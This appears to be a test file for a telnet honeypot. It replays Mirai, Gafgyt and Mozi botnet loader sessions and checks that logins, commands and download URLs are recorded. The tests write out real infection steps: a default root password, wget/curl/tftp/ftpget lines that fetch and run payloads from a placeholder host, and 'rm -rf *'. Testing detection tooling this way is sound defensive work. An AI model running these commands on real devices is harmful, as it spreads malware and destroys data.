/** Whole infections, as the loaders of the known IoT botnets speak them: each step waits for what the one before must have printed. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { type Conversation, converse } from '../play.ts';
import { telnet } from './service.ts';

const ALWAYS = { options: { lure: { accept: 'always' } } };

function expect(talk: Conversation, sent: string, pattern: RegExp): RegExpExecArray {
  const before = talk.sent.length;
  talk.push(sent);
  const match = pattern.exec(talk.sent.slice(before));
  assert.ok(match, `${JSON.stringify(sent)} was answered ${JSON.stringify(talk.sent.slice(before))}`);
  return match;
}

test('a Mirai loader finds its way from the login to the dropped binary', () => {
  const talk = converse(telnet, ALWAYS);
  // Mirai answers every option itself, DO with WONT and WILL with DO.
  talk.push(Buffer.from([255, 252, 24, 255, 252, 32, 255, 252, 35, 255, 252, 39, 255, 252, 1]));
  talk.advance(1);
  assert.match(talk.sent, /ogin: $/);
  expect(talk, 'root\r\n', /assword: $/);
  expect(talk, 'xc3511\r\n', /# $/);
  expect(talk, 'enable\r\n', /# $/);
  expect(talk, 'system\r\n', /command not found\r\n.*# $/);
  expect(talk, 'shell\r\n', /# $/);
  expect(talk, 'sh\r\n', /# $/);
  expect(talk, '/bin/busybox ECCHI\r\n', /ECCHI: applet not found\r\n/);
  expect(talk, '/bin/busybox ps; /bin/busybox ECCHI\r\n', /PID +USER[\s\S]*\n +\d+ root[\s\S]*ECCHI: applet not found/);
  const mounts = expect(
    talk,
    '/bin/busybox cat /proc/mounts; /bin/busybox ECCHI\r\n',
    /tmpfs (\/dev\/shm) tmpfs rw[\s\S]*ECCHI: applet not found/,
  );
  const folder = mounts[1] ?? '';
  expect(
    talk,
    `/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69${folder}' > ${folder}/.nippon; /bin/busybox cat ${folder}/.nippon; /bin/busybox rm ${folder}/.nippon; /bin/busybox ECCHI\r\n`,
    /\nkami\/dev\/shm\r\nECCHI: applet not found/,
  );
  expect(talk, `cd ${folder}\r\n`, /# $/);
  expect(
    talk,
    '/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI\r\n',
    /ECCHI: applet not found/,
  );
  const [, header = ''] = expect(talk, '/bin/busybox cat /bin/echo\r\n', /(\x7fELF[\s\S]{16})/);
  assert.equal(header.charCodeAt(18), 62);
  expect(
    talk,
    '/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI\r\n',
    /Usage: wget[\s\S]*Usage: tftp[\s\S]*ECCHI: applet not found/,
  );
  expect(
    talk,
    '/bin/busybox wget http://203.0.113.9:80/bins/mirai.x86 -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI\r\n',
    /ECCHI: applet not found/,
  );
  expect(talk, "echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01' > upnp; /bin/busybox ECCHI\r\n", /ECCHI: applet not found/);
  expect(talk, "echo -ne '\\x01\\x61\\x00' >> upnp; /bin/busybox ECCHI\r\n", /ECCHI: applet not found/);
  expect(talk, './upnp > dvrHelper; ./dvrHelper telnet.x86; /bin/busybox IHCCE\r\n', /IHCCE: applet not found/);
  talk.end();

  const events = (type: string) => talk.events.filter((event) => event.type === type).map(({ fields }) => fields);
  assert.deepEqual(events('auth.attempt'), [
    { username: 'root', password: 'xc3511', mechanism: 'plain', accepted: true },
  ]);
  assert.deepEqual(
    events('file.requested').map(({ urls }) => urls),
    [['http://203.0.113.9:80/bins/mirai.x86']],
  );
  assert.equal(events('command.input').length, 16);
  assert.ok(
    [...talk.artifacts.values()].some((bytes) => bytes.equals(Buffer.from([0x7f, 0x45, 0x4c, 0x46, 1, 1, 1, 0x61, 0]))),
  );
});

test('a Gafgyt line downloads by every means, and all of them are recorded', () => {
  const talk = converse(telnet, ALWAYS);
  talk.push('root\nroot\n');
  talk.push(
    'cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://203.0.113.9/sh; curl -O http://203.0.113.9/sh; chmod 777 sh; sh sh; tftp 203.0.113.9 -c get bins.sh; chmod 777 bins.sh; sh bins.sh; tftp -r .sh -g 203.0.113.9; chmod 777 .sh; sh .sh; ftpget -v -u anonymous -p anonymous -P 21 203.0.113.9 .sh .sh; sh .sh; rm -rf sh bins.sh .sh .sh; rm -rf *\n',
  );
  const urls = talk.events
    .filter(({ type }) => type === 'file.requested')
    .flatMap(({ fields }) => fields.urls as string[]);
  assert.deepEqual(urls, [
    'http://203.0.113.9/sh',
    'http://203.0.113.9/sh',
    'tftp://203.0.113.9/bins.sh',
    'tftp://203.0.113.9/.sh',
    'ftp://anonymous:anonymous@203.0.113.9:21/.sh',
  ]);
});

test('a Mozi probe for its architecture reads the header by dd, cat or a loop', () => {
  const talk = converse(telnet, ALWAYS);
  talk.push('root\nroot\n');
  expect(
    talk,
    'cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox YHXDG\n',
    /No such file or directory[\s\S]*YHXDG: applet not found/,
  );
  expect(
    talk,
    'tftp; wget; /bin/busybox YHXDG\n',
    /tftp: command not found[\s\S]*missing URL[\s\S]*YHXDG: applet not found/,
  );
  expect(
    talk,
    'dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s\n',
    /\x7fELF[\s\S]*1\+0 records in/,
  );
  expect(talk, 'while read i; do echo $i; done < /proc/version\n', /\r\nLinux version /);
  expect(talk, 'rm .s; exit\n', /logout/);
  assert.equal(talk.closed, 'service_closed');
});

test('credentials and commands sent before any prompt are all recorded', () => {
  const talk = converse(telnet, ALWAYS);
  talk.push('admin\r\nadmin\r\nenable\r\nlinuxshell\r\nsh\r\n');
  const commands = talk.events.filter(({ type }) => type === 'command.input').map(({ fields }) => fields.command);
  assert.deepEqual(commands, ['enable', 'linuxshell', 'sh']);
});
